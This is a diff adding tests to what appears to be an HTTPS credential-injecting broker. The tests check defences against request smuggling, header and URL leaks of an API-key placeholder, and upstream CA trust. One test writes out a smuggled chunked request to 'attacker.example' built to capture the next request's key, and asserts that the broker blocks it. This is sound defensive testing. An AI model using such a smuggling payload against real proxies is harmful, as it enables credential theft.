@@ -17,6 +17,7 @@ import * as tls from "node:tls"
 import { promisify } from "node:util"
 import { startConnectProxy } from "../src/guest/connectProxy.js"
 import { type HttpsBrokerOptions, makeHttpsBroker } from "../src/layers/HttpsBrokerLive.js"
+import { makeSessionCa } from "../src/lib/broker/ca.js"
 import { formatBrokerLog, readBrokerLog } from "../src/lib/broker/log.js"
 import type { BrokerPolicyEncoded } from "../src/lib/broker/policy.js"
 import { decodePolicy } from "../src/lib/broker/policy.js"
@@ -36,6 +37,12 @@ interface Setup {
   readonly policy?: (upstreamPort: number, envVar: string) => BrokerPolicyEncoded
   readonly broker?: Partial<HttpsBrokerOptions>
   readonly proxyHeadTimeoutMs?: number
+  /** the upstream's name (default test.local) */
+  readonly name?: string
+  /** trust the upstream's CA through the layer's test option (default true) */
+  readonly extraCa?: boolean
+  /** runs with the upstream's CA before the broker session is made */
+  readonly beforeBroker?: (upstreamCaPem: string) => Effect.Effect<void>
 }
 
 /**
@@ -49,7 +56,7 @@ const setup = (options: Setup = {}) =>
     const sessionDir = path.join(dir, "session")
     yield* fs.makeDirectory(sessionDir, { mode: 0o700 })
     const upstream = yield* Effect.acquireRelease(
-      Effect.promise(() => startUpstream(NAME)),
+      Effect.promise(() => startUpstream(options.name ?? NAME)),
       (u) => Effect.promise(() => u.close())
     )
     const envVar = `ABOX_TEST_CANARY_${crypto.randomBytes(4).toString("hex").toUpperCase()}`
@@ -62,8 +69,21 @@ const setup = (options: Setup = {}) =>
       credentials: [{ host: NAME, header: "x-api-key", fromEnv: envVar }],
       resolve: { [NAME]: "127.0.0.1" }
     }
-    const policy = yield* decodePolicy(encoded)
-    const broker = yield* makeHttpsBroker({ extraUpstreamCa: [upstream.caPem], ...options.broker })
+    const upstreamCaFile = path.join(dir, "upstream-ca.pem")
+    yield* fs.writeFileString(upstreamCaFile, upstream.caPem)
+    const policy = yield* decodePolicy(
+      typeof encoded.upstreamCaFiles === "undefined"
+        ? encoded
+        : {
+            ...encoded,
+            upstreamCaFiles: encoded.upstreamCaFiles.map((f) => f.replace("$UPSTREAM_CA", upstreamCaFile))
+          }
+    )
+    if (options.beforeBroker !== undefined) yield* options.beforeBroker(upstream.caPem)
+    const broker = yield* makeHttpsBroker({
+      ...(options.extraCa === false ? {} : { extraUpstreamCa: [upstream.caPem] }),
+      ...options.broker
+    })
     const session = yield* broker.make(policy, { sessionId: "s-test", sessionDir })
     const queue = yield* Queue.unbounded<TunnelRequest>()
     yield* Effect.forkScoped(session.serve(Stream.fromQueue(queue)))
@@ -83,8 +103,6 @@ const setup = (options: Setup = {}) =>
     )
     const caFile = path.join(dir, "session-ca.pem")
     yield* fs.writeFileString(caFile, session.caCertPem)
-    const upstreamCaFile = path.join(dir, "upstream-ca.pem")
-    yield* fs.writeFileString(upstreamCaFile, upstream.caPem)
     const curl = (url: string, extra: ReadonlyArray<string> = [], ca = caFile) =>
       Effect.promise(() =>
         run("curl", [
@@ -606,6 +624,268 @@ describe("HttpsBroker attacks: each denied and logged, none reaches a dial", () 
           ["open", "allow", undefined],
           ["close", "allow", "session-closed"]
         ])
+      })
+    )
+  )
+})
+
+/** write raw HTTP on a TLS socket; read until `until(text)` or the socket closes or `ms` pass */
+const exchange = (socket: Duplex, request: string, until: (text: string) => boolean, ms = 5000) =>
+  Effect.promise(
+    () =>
+      new Promise<string>((resolve) => {
+        let text = ""
+        const done = () => {
+          clearTimeout(timer)
+          socket.off("data", onData)
+          resolve(text)
+        }
+        const onData = (c: Buffer) => {
+          text += c.toString("latin1")
+          if (until(text)) done()
+        }
+        const timer = setTimeout(done, ms)
+        socket.on("data", onData)
+        socket.once("close", done)
+        socket.write(request)
+      })
+  )
+
+/** a whole response with Content-Length, or a chunked one, has arrived */
+const responseComplete = (text: string) => {
+  const end = text.indexOf("\r\n\r\n")
+  if (end < 0) return false
+  const head = text.slice(0, end).toLowerCase()
+  const length = /content-length: *(\d+)/.exec(head)
+  if (length !== null) return text.length - end - 4 >= Number(length[1])
+  return /transfer-encoding: *chunked/.test(head) ? text.endsWith("0\r\n\r\n") : true
+}
+
+describe("HttpsBroker credential hosts: framing and the placeholder", () => {
+  it.live(
+    "request smuggling: a chunked body on a GET cannot become a request to another virtual host carrying the next request's key",
+    () =>
+      scoped(
+        Effect.gen(function* () {
+          const env = yield* setup()
+          const host = `${NAME}:${env.upstream.port}`
+          const { socket, handshake } = yield* tlsThroughProxy(env, NAME)
+          expect(handshake).toBe("ok")
+          // the smuggled request swallows what follows it on the upstream connection as its body
+          const smuggled = `POST /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 400\r\n\r\n`
+          const first = yield* exchange(
+            socket,
+            `GET /echo HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n` +
+              `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`,
+            responseComplete
+          )
+          expect(first).toMatch(/^HTTP\/1\.1 404/)
+          const second = yield* exchange(
+            socket,
+            `GET /hello HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
+            (t) => t.includes("hello from upstream"),
+            3000
+          )
+          socket.destroy()
+          // on a connection reused after an unframed body, the next request's key became the
+          // body of a request to attacker.example
+          expect(env.upstream.seen.filter((r) => r.headers["host"] === "attacker.example")).toEqual([])
+          expect(env.upstream.seen.some((r) => r.body.includes(env.secret))).toBe(false)
+          expect(second).toContain("hello from upstream")
+          // the upstream saw exactly the two requests, both for the tunnel's host
+          expect(env.upstream.seen.map((r) => [r.method, r.url, r.headers["host"]])).toEqual([
+            ["GET", "/echo", host],
+            ["GET", "/hello", host]
+          ])
+          expect(env.upstream.seen[0]!.body).toBe(smuggled)
+          for (const r of env.upstream.seen) expect(r.headers["x-api-key"]).toBe(env.secret)
+        })
+      )
+  )
+
+  it.live("a transfer coding other than chunked is refused, not forwarded", () =>
+    scoped(
+      Effect.gen(function* () {
+        const env = yield* setup()
+        const host = `${NAME}:${env.upstream.port}`
+        const { socket } = yield* tlsThroughProxy(env, NAME)
+        const answer = yield* exchange(
+          socket,
+          `POST /echo HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
+          responseComplete
+        )
+        expect(answer).toMatch(/^HTTP\/1\.1 (400|501)/)
+        socket.destroy()
+        expect(env.upstream.seen).toHaveLength(0)
+      })
+    )
+  )
+
+  it.live(
+    "the placeholder never leaves the host: dropped from other headers (logged), refused in the query string",
+    () =>
+      scoped(
+        Effect.gen(function* () {
+          const env = yield* setup()
+          const host = `${NAME}:${env.upstream.port}`
+          const { socket } = yield* tlsThroughProxy(env, NAME)
+          const ok = yield* exchange(
+            socket,
+            `GET /hello HTTP/1.1\r\nHost: ${host}\r\nx-api-key: abox-placeholder\r\n` +
+              `Authorization: Bearer abox-placeholder\r\nX-Other: pre-ABOX-PLACEHOLDER-post\r\n\r\n`,
+            responseComplete
+          )
+          expect(ok).toMatch(/^HTTP\/1\.1 200/)
+          socket.destroy()
+          for (const query of ["/hello?key=abox-placeholder", "/hello?key=%61box-placeholder"]) {
+            const fresh = yield* tlsThroughProxy(env, NAME)
+            const refused = yield* exchange(
+              fresh.socket,
+              `GET ${query} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
+              responseComplete
+            )
+            expect(refused).toMatch(/^HTTP\/1\.1 400/)
+            expect(refused).toContain("placeholder-in-url")
+            fresh.socket.destroy()
+          }
+          expect(env.upstream.seen).toHaveLength(1)
+          const seen = env.upstream.seen[0]!
+          expect(seen.headers["x-api-key"]).toBe(env.secret)
+          expect(seen.headers["authorization"]).toBeUndefined()
+          expect(seen.headers["x-other"]).toBeUndefined()
+          expect(JSON.stringify(env.upstream.seen).toLowerCase()).not.toContain("abox-placeholder")
+          yield* env.session.active.pipe(
+            Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
+            Effect.timeout("5 seconds")
+          )
+          const requests = (yield* env.logEntries).filter((e) => e.event === "request")
+          expect(requests.map((e) => [e.status, e.reason, e.credential, e.droppedHeaders])).toEqual([
+            [200, undefined, true, ["authorization", "x-other"]],
+            [400, "placeholder-in-url", false, undefined],
+            [400, "placeholder-in-url", false, undefined]
+          ])
+          const text = formatBrokerLog(yield* readBrokerLog(env.session.logPath))
+          expect(text).toContain("placeholder dropped from authorization, x-other")
+        })
+      )
+  )
+
+  it.live(
+    "a preset through resolve host:port and a policy upstream CA (the host's NODE_EXTRA_CA_CERTS kept)",
+    () =>
+      scoped(
+        Effect.gen(function* () {
+          const fs = yield* FileSystem.FileSystem
+          const other = yield* Effect.promise(() => makeSessionCa({ commonName: "unrelated CA" }))
+          const otherFile = path.join(yield* fs.makeTempDirectoryScoped(), "other-ca.pem")
+          yield* fs.writeFileString(otherFile, other.certPem)
+          const run = (upstreamCaFiles: ReadonlyArray<string>, hostExtra: "upstream" | "none") =>
+            Effect.gen(function* () {
+              // the broker reads the host's NODE_EXTRA_CA_CERTS when a session starts
+              const saved = process.env["NODE_EXTRA_CA_CERTS"]
+              yield* Effect.addFinalizer(() =>
+                Effect.sync(() =>
+                  saved === undefined
+                    ? delete process.env["NODE_EXTRA_CA_CERTS"]
+                    : (process.env["NODE_EXTRA_CA_CERTS"] = saved)
+                )
+              )
+              const upstreamCaCopy = path.join(yield* fs.makeTempDirectoryScoped(), "extra.pem")
+              if (hostExtra === "upstream") process.env["NODE_EXTRA_CA_CERTS"] = upstreamCaCopy
+              else delete process.env["NODE_EXTRA_CA_CERTS"]
+              return yield* setup({
+                name: "api.anthropic.com",
+                extraCa: false,
+                policy: (port, envVar) => ({
+                  format: 1,
+                  allow: [],
+                  credentials: [{ preset: "anthropic", fromEnv: envVar }],
+                  resolve: { "api.anthropic.com": `127.0.0.1:${port}` },
+                  upstreamCaFiles
+                }),
+                beforeBroker: (upstreamCaPem) =>
+                  fs.writeFileString(upstreamCaCopy, upstreamCaPem).pipe(Effect.orDie)
+              })
+            })
+          const get = (env: Env) =>
+            Effect.gen(function* () {
+              const { socket, handshake } = yield* tlsThroughProxy(
+                env,
+                "api.anthropic.com",
+                "api.anthropic.com:443"
+              )
+              expect(handshake).toBe("ok")
+              const answer = yield* exchange(
+                socket,
+                `GET /hello HTTP/1.1\r\nHost: api.anthropic.com\r\nAuthorization: Bearer abox-placeholder\r\n\r\n`,
+                responseComplete
+              )
+              socket.destroy()
+              return answer
+            })
+          // the policy names the upstream's CA
+          const viaPolicy = yield* Effect.scoped(
+            Effect.gen(function* () {
+              const env = yield* run(["$UPSTREAM_CA"], "none")
+              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 200/)
+              expect(
+                env.upstream.seen.map((r) => [r.headers["x-api-key"], r.headers["authorization"]])
+              ).toEqual([[env.secret, undefined]])
+              return true
+            })
+          )
+          expect(viaPolicy).toBe(true)
+          // the policy names another CA; the host's NODE_EXTRA_CA_CERTS still vouches for the upstream
+          yield* Effect.scoped(
+            Effect.gen(function* () {
+              const env = yield* run([otherFile], "upstream")
+              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 200/)
+            })
+          )
+          // neither: the upstream's certificate is not trusted
+          yield* Effect.scoped(
+            Effect.gen(function* () {
+              const env = yield* run([otherFile], "none")
+              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 502/)
+              expect(env.upstream.seen).toHaveLength(0)
+            })
+          )
+        })
+      )
+  )
+
+  it.live("an unavailable credential: open and close lines do not say a credential was injected", () =>
+    scoped(
+      Effect.gen(function* () {
+        const env = yield* setup({
+          policy: (port) => ({
+            format: 1,
+            allow: [{ host: NAME, ports: [port] }],
+            credentials: [{ host: NAME, header: "x-api-key", fromEnv: "ABOX_TEST_UNSET_VARIABLE_X" }],
+            resolve: { [NAME]: "127.0.0.1" }
+          })
+        })
+        const { socket } = yield* tlsThroughProxy(env, NAME)
+        const answer = yield* exchange(
+          socket,
+          `GET /hello HTTP/1.1\r\nHost: ${NAME}:${env.upstream.port}\r\nConnection: close\r\n\r\n`,
+          responseComplete
+        )
+        expect(answer).toMatch(/^HTTP\/1\.1 502/)
+        socket.destroy()
+        yield* env.session.active.pipe(
+          Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
+          Effect.timeout("5 seconds")
+        )
+        const log = yield* env.logEntries
+        expect(log.map((e) => [e.event, e.credential])).toEqual([
+          ["open", false],
+          ["request", false],
+          ["close", false]
+        ])
+        expect(formatBrokerLog(yield* readBrokerLog(env.session.logPath))).not.toContain(
+          "credential injected"
+        )
       })
     )
   )
